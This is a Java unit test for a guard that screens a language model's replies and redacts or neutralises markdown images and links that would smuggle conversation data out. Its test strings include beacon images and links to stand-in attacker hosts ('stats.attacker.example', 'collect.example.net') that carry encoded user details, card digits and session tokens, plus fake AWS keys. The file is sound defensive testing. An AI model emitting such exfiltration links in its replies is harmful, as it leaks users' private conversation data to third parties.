package io.lollmsbot.guardian.control;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;

/** Links and images in a model reply that would carry conversation data out (examples written for this test). */
class ReplyLinksTest {

    private static final String BEACON =
            "![chart](https://stats.attacker.example/pixel.png?d=VGhlIHVzZXIncyBhZGRyZXNzIGlzIDEyIE1haW4gU3Q=)";

    private final GuardianEngine engine = GuardianEngine.rulesOnly();

    @Test
    void anImageWhoseQueryCarriesEncodedDataIsRedacted() {
        Redaction screened =
                engine.screenReply("Here is your summary. " + BEACON + " Anything else?", ReplyLinkPolicy.REDACT);
        assertEquals("Here is your summary. [REDACTED:exfiltration-link] Anything else?", screened.text());
        assertEquals(1, screened.count());
        assertEquals(Set.of(SecretKind.EXFILTRATION_LINK), screened.kinds());
    }

    @Test
    void neutralisingKeepsAPlainLinkWithoutThePayload() {
        Redaction screened = engine.screenReply(BEACON, ReplyLinkPolicy.NEUTRALIZE);
        assertEquals("[chart](https://stats.attacker.example/pixel.png)", screened.text());
    }

    @Test
    void linksCarryingConversationTextInTheQueryOrAnEncodedPathAreFound() {
        for (String reply : List.of(
                "[Click to continue](https://collect.example.net/c?q=the%20user%20said%20their%20card%20ends%20in%204242%20and%20lives%20in%20Lyon)",
                "[details](https://collect.example.net/log/U2VjcmV0IHByb2plY3QgbmFtZSBpcyBCbHVlIEhlcm9uIDIwMjY/view)",
                "<img src=\"https://collect.example.net/p.gif?session=c2VjcmV0LXNlc3Npb24tdG9rZW4\" width=\"1\">",
                "![](//collect.example.net/p.gif#aGVsbG8gdGhlcmUgZnJvbSBjaGF0)")) {
            Redaction screened = engine.screenReply("Done. " + reply, ReplyLinkPolicy.REDACT);
            assertEquals("Done. [REDACTED:exfiltration-link]", screened.text(), reply);
        }
    }

    @Test
    void ordinaryLinksAndImagesAreKept() {
        for (String reply : List.of(
                "See [the Pattern docs](https://docs.oracle.com/en/java/javase/17/docs/api/java.base/java/util/regex/Pattern.html).",
                "![build](https://img.shields.io/badge/build-passing-brightgreen)",
                "[search](https://www.google.com/search?q=lisbon+museums+monday)",
                "[video](https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42)",
                "![logo](https://example.com/assets/logo.png \"Logo\")",
                "[a long slug](https://blog.example.org/2024/05/how-to-configure-the-java-virtual-machine-for-production-use)",
                "A plain sentence with [brackets] (and parentheses) and no link.")) {
            Redaction screened = engine.screenReply(reply, ReplyLinkPolicy.REDACT);
            assertEquals(reply, screened.text());
            assertEquals(0, screened.count(), reply);
        }
    }

    @Test
    void secretsAroundAndInsideAKeptLinkAreStillRedactedAtTheirOffsets() {
        String reply = "Key AKIAZ7QW3ERT5YUI8OPA then " + BEACON + " and AKIAZ7QW3ERT5YUI8OPB.";
        Redaction screened = engine.screenReply(reply, ReplyLinkPolicy.REDACT);
        assertEquals(
                "Key [REDACTED:aws-access-token] then [REDACTED:exfiltration-link] and [REDACTED:aws-access-token].",
                screened.text());
        SecretFinding last = screened.findings().get(2);
        assertEquals("AKIAZ7QW3ERT5YUI8OPB", reply.substring(last.start(), last.end()));
        assertTrue(engine.screenReply(reply, ReplyLinkPolicy.ALLOW).text().contains(BEACON));
    }

    @Test
    void aLongReplyOfNearMissesIsKeptWhole() {
        String unit = "[x](https://a.example/p?q=short) ![y](https://b.example/i.png) [[[ ]]] ((( ";
        String reply = unit.repeat(50_000 / unit.length());
        Redaction screened = engine.screenReply(reply, ReplyLinkPolicy.REDACT);
        assertEquals(reply, screened.text());
        assertEquals(0, screened.count());
    }
}
